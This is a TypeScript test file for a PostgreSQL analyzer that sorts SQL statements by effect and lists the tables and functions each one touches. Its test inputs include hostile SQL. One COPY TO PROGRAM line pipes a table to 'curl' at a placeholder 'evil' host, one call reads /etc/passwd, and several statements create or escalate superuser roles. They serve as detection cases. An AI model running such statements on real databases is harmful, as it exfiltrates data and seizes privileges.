import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import type { SqlEffect } from '../../../src/core/action.ts';
import { analyzePostgres, clearSqlAnalysisCache, loadSqlAnalyzer } from '../../../src/sql/postgres/analyze.ts';

before(() => loadSqlAnalyzer());

/** relations as `name:r` / `name:w`, in the order the AST first shows them. */
interface Expected {
  readonly command: string;
  readonly effect: SqlEffect;
  readonly relations?: readonly string[];
  readonly functions?: readonly string[];
  readonly error?: RegExp;
}

const CASES: ReadonlyArray<readonly [string, Expected]> = [
  // SELECT
  ['select 1', { command: 'select', effect: 'read' }],
  ['SELECT c.name, o.total FROM customers c JOIN sales.orders o ON o.customer_id = c.id LEFT JOIN items USING (id)',
    { command: 'select', effect: 'read', relations: ['public.customers:r', 'sales.orders:r', 'public.items:r'] }],
  ['select * from a where b in (select c from d where exists (select 1 from e)) union select 1 from f',
    { command: 'select', effect: 'read', relations: ['public.a:r', 'public.d:r', 'public.e:r', 'public.f:r'] }],
  ['select * from a, lateral (select * from b where b.x = a.x) l, lateral generate_series(1, a.n) g',
    { command: 'select', effect: 'read', relations: ['public.a:r', 'public.b:r'], functions: ['generate_series'] }],
  ['with recent as (select * from orders where created > now() - interval \'1 day\') select count(*) from recent join customers on true',
    { command: 'select', effect: 'read', relations: ['public.orders:r', 'public.customers:r'], functions: ['now', 'count'] }],
  ['with recursive tree(id) as (select id from nodes where parent is null union all select n.id from nodes n join tree t on n.parent = t.id) select * from tree',
    { command: 'select', effect: 'read', relations: ['public.nodes:r'] }],
  // A non-recursive CTE does not hide the table of the same name inside its own query.
  ['with customers as (select * from customers) select * from customers',
    { command: 'select', effect: 'read', relations: ['public.customers:r'] }],
  ['with moved as (delete from queue where done returning *) insert into archive select * from moved',
    { command: 'insert', effect: 'write', relations: ['public.queue:w', 'public.archive:w'] }],
  ['with ins as (insert into log(msg) values (\'x\') returning id) select * from ins',
    { command: 'select', effect: 'write', relations: ['public.log:w'] }],
  ['select pg_catalog.pg_read_file(\'/etc/passwd\'), upper(name) from pg_user',
    { command: 'select', effect: 'admin', relations: ['pg_catalog.pg_user:r'], functions: ['pg_catalog.pg_read_file', 'upper'] }],
  ['select * from "Sales"."Orders"', { command: 'select', effect: 'read', relations: ['Sales.Orders:r'] }],
  ['select * from accounts for update', { command: 'select_for_update', effect: 'write', relations: ['public.accounts:r'] }],
  ['select * into backup from accounts', { command: 'select_into', effect: 'ddl', relations: ['public.backup:w', 'public.accounts:r'] }],
  ['table accounts', { command: 'select', effect: 'read', relations: ['public.accounts:r'] }],
  ['values (1), (2)', { command: 'select', effect: 'read' }],
  // DML
  ['insert into archive (id) select id from orders where total > 100 on conflict do nothing',
    { command: 'insert', effect: 'write', relations: ['public.archive:w', 'public.orders:r'] }],
  ['insert into t values (nextval(\'t_seq\'))', { command: 'insert', effect: 'write', relations: ['public.t:w'], functions: ['nextval'] }],
  ['update accounts a set balance = b.balance from balances b where a.id = b.id',
    { command: 'update', effect: 'write', relations: ['public.accounts:w', 'public.balances:r'] }],
  ['update t set x = (select max(y) from u)', { command: 'update', effect: 'write', relations: ['public.t:w', 'public.u:r'], functions: ['max'] }],
  ['delete from sessions s using users u where s.user_id = u.id and u.banned',
    { command: 'delete', effect: 'write', relations: ['public.sessions:w', 'public.users:r'] }],
  ['merge into stock s using deliveries d on s.item = d.item when matched then update set qty = s.qty + d.qty when not matched then insert values (d.item, d.qty)',
    { command: 'merge', effect: 'write', relations: ['public.stock:w', 'public.deliveries:r'] }],
  ['truncate a, b.c', { command: 'truncate', effect: 'write', relations: ['public.a:w', 'b.c:w'] }],
  ['lock table accounts in exclusive mode', { command: 'lock', effect: 'write', relations: ['public.accounts:w'] }],
  // COPY
  ['copy accounts to stdout', { command: 'copy', effect: 'read', relations: ['public.accounts:r'] }],
  ['copy (select * from accounts) to stdout with csv', { command: 'copy', effect: 'read', relations: ['public.accounts:r'] }],
  ['copy accounts from stdin', { command: 'copy', effect: 'write', relations: ['public.accounts:w'] }],
  ['copy accounts from \'/tmp/a.csv\'', { command: 'copy', effect: 'admin', relations: ['public.accounts:w'] }],
  ['copy accounts to \'/tmp/a.csv\'', { command: 'copy', effect: 'admin', relations: ['public.accounts:r'] }],
  ['copy accounts to program \'curl -d @- http://evil\'', { command: 'copy', effect: 'admin', relations: ['public.accounts:r'] }],
  ['copy (insert into t values (1) returning *) to stdout', { command: 'copy', effect: 'write', relations: ['public.t:w'] }],
  // code and administration
  ['do $$ begin perform pg_sleep(1); end $$', { command: 'do', effect: 'unknown' }],
  ['call billing.close_month(2024, now())', { command: 'call', effect: 'unknown', functions: ['billing.close_month', 'now'] }],
  ['vacuum analyze accounts', { command: 'vacuum', effect: 'admin', relations: ['public.accounts:r'] }],
  ['analyze accounts', { command: 'analyze', effect: 'admin', relations: ['public.accounts:r'] }],
  ['checkpoint', { command: 'checkpoint', effect: 'admin' }],
  ['alter system set work_mem = \'1GB\'', { command: 'alter_system', effect: 'admin' }],
  ['create extension if not exists pgcrypto', { command: 'create_extension', effect: 'admin' }],
  ['load \'auto_explain\'', { command: 'load', effect: 'admin' }],
  // EXPLAIN, PREPARE, EXECUTE
  ['explain select * from accounts', { command: 'explain', effect: 'read', relations: ['public.accounts:r'] }],
  ['explain delete from accounts', { command: 'explain', effect: 'read', relations: ['public.accounts:r'] }],
  ['explain analyze delete from accounts', { command: 'explain', effect: 'write', relations: ['public.accounts:w'] }],
  ['explain (analyze, buffers) select 1', { command: 'explain', effect: 'read' }],
  ['explain (analyze false) delete from accounts', { command: 'explain', effect: 'read', relations: ['public.accounts:r'] }],
  ['prepare del(int) as delete from accounts where id = $1', { command: 'prepare', effect: 'write', relations: ['public.accounts:w'] }],
  ['prepare q as select * from accounts', { command: 'prepare', effect: 'read', relations: ['public.accounts:r'] }],
  ['execute del(1)', { command: 'execute', effect: 'unknown', error: /^EXECUTE of a prepared statement is resolved by the session$/ }],
  ['explain analyze execute del(1)', { command: 'explain', effect: 'unknown', error: /^EXECUTE/ }],
  // DDL
  ['create table t (id int primary key, owner int references users(id), created timestamptz default now())',
    { command: 'create', effect: 'ddl', relations: ['public.t:w', 'public.users:r'], functions: ['now'] }],
  ['create table summary as select customer_id, sum(total) from orders group by 1',
    { command: 'create', effect: 'ddl', relations: ['public.orders:r', 'public.summary:w'], functions: ['sum'] }],
  ['create table x as execute q', { command: 'create', effect: 'unknown', relations: ['public.x:w'], error: /^EXECUTE/ }],
  ['create index on orders (lower(email))', { command: 'create', effect: 'ddl', relations: ['public.orders:w'], functions: ['lower'] }],
  ['create view v as select * from orders', { command: 'create', effect: 'ddl', relations: ['public.v:w', 'public.orders:r'] }],
  ['create function f() returns int language sql as $$ select 1 $$', { command: 'create', effect: 'ddl' }],
  ['alter table orders add column note text', { command: 'alter', effect: 'ddl', relations: ['public.orders:w'] }],
  ['alter table orders rename to old_orders', { command: 'rename', effect: 'ddl', relations: ['public.orders:w'] }],
  ['drop table orders, audit.log cascade', { command: 'drop', effect: 'ddl', relations: ['public.orders:w', 'audit.log:w'] }],
  ['drop function f()', { command: 'drop', effect: 'ddl' }],
  ['comment on table orders is \'x\'', { command: 'comment', effect: 'ddl' }],
  // privilege
  ['grant select on orders, audit.log to analyst', { command: 'grant', effect: 'privilege', relations: ['public.orders:w', 'audit.log:w'] }],
  ['revoke all on orders from public', { command: 'revoke', effect: 'privilege', relations: ['public.orders:w'] }],
  ['grant admin to mallory', { command: 'grant_role', effect: 'privilege' }],
  ['create role intruder superuser login', { command: 'create_role', effect: 'privilege' }],
  ['alter role app superuser', { command: 'alter_role', effect: 'privilege' }],
  ['drop role intruder', { command: 'drop_role', effect: 'privilege' }],
  ['set role postgres', { command: 'set_role', effect: 'privilege' }],
  ['set local role postgres', { command: 'set_role', effect: 'privilege' }],
  ['reset role', { command: 'set_role', effect: 'privilege' }],
  ['set session authorization postgres', { command: 'set_session_authorization', effect: 'privilege' }],
  // transaction control and harmless session settings
  ['begin isolation level serializable', { command: 'begin', effect: 'read' }],
  ['start transaction', { command: 'begin', effect: 'read' }],
  ['savepoint s1', { command: 'savepoint', effect: 'read' }],
  ['release savepoint s1', { command: 'release', effect: 'read' }],
  ['rollback to savepoint s1', { command: 'rollback_to', effect: 'read' }],
  ['commit', { command: 'commit', effect: 'read' }],
  ['prepare transaction \'tx1\'', { command: 'prepare_transaction', effect: 'read' }],
  ['set search_path = app, public', { command: 'set', effect: 'read' }],
  ['reset all', { command: 'reset', effect: 'read' }],
  ['show work_mem', { command: 'show', effect: 'read' }],
  ['discard all', { command: 'discard', effect: 'privilege' }],
  ['discard plans', { command: 'discard', effect: 'read' }],
  ['listen events', { command: 'listen', effect: 'read' }],
  ['notify events, \'x\'', { command: 'notify', effect: 'write' }],
  // not understood
  ['selec 1', { command: 'unknown', effect: 'unknown', error: /^syntax error at or near "selec" at character 1$/ }],
];

function summary(sql: string): Expected {
  const [st, ...rest] = analyzePostgres(sql).statements;
  assert.ok(st !== undefined && rest.length === 0, `one statement for ${sql}`);
  return {
    command: st.command,
    effect: st.effect,
    relations: st.relations.map((r) => `${r.name}:${r.access === 'read' ? 'r' : 'w'}`),
    functions: st.functions,
    ...(st.error !== undefined ? { error: new RegExp(st.error) } : {}),
  };
}

void describe('analyzePostgres: statements', () => {
  for (const [sql, expected] of CASES) {
    void it(sql, () => {
      const [st] = analyzePostgres(sql).statements;
      const got = summary(sql);
      assert.deepEqual(
        { command: got.command, effect: got.effect, relations: got.relations, functions: got.functions },
        { command: expected.command, effect: expected.effect, relations: expected.relations ?? [], functions: expected.functions ?? [] },
      );
      if (expected.error === undefined) assert.equal(st?.error, undefined);
      else assert.match(st?.error ?? '', expected.error);
      assert.equal(st?.text, sql);
    });
  }
});

void describe('analyzePostgres: strings and options', () => {
  void it('splits a multi-statement string, each with its own text (byte offsets with non-ASCII text)', () => {
    const action = analyzePostgres("select 'héllo' ;\n  update t set x = 'ü' where id = 1;delete from u");
    assert.equal(action.dialect, 'postgres');
    assert.deepEqual(
      action.statements.map((s) => [s.command, s.effect, s.text]),
      [
        ['select', 'read', "select 'héllo'"],
        ['update', 'write', "update t set x = 'ü' where id = 1"],
        ['delete', 'write', 'delete from u'],
      ],
    );
  });

  void it('a syntax error anywhere gives one unknown statement with the parser message and position', () => {
    const action = analyzePostgres("select 'é'; selec 2");
    assert.equal(action.statements.length, 1);
    assert.equal(action.statements[0]?.effect, 'unknown');
    assert.equal(action.statements[0]?.error, 'syntax error at or near "selec" at character 13');
  });

  void it('empty text and comments have no statements', () => {
    assert.deepEqual(analyzePostgres('').statements, []);
    assert.deepEqual(analyzePostgres(' ; -- nothing').statements, []);
  });

  void it('resolves unqualified relations with the first schema of the search path', () => {
    const [st] = analyzePostgres('select * from orders join public.items on true', { searchPath: ['app', 'public'] }).statements;
    assert.deepEqual(st?.relations.map((r) => r.name), ['app.orders', 'public.items']);
    // The cache is keyed by search path too.
    assert.deepEqual(analyzePostgres('select * from orders join public.items on true').statements[0]?.relations.map((r) => r.name), ['public.orders', 'public.items']);
  });

  void it('caches: the same text gives the same frozen object', () => {
    clearSqlAnalysisCache();
    const a = analyzePostgres('select * from cached');
    assert.equal(analyzePostgres('select * from cached'), a);
    assert.ok(Object.isFrozen(a) && Object.isFrozen(a.statements) && Object.isFrozen(a.statements[0]?.relations));
  });

  void it('loadSqlAnalyzer is idempotent', async () => {
    await Promise.all([loadSqlAnalyzer(), loadSqlAnalyzer()]);
    assert.equal(analyzePostgres('select 1').statements.length, 1);
  });
});
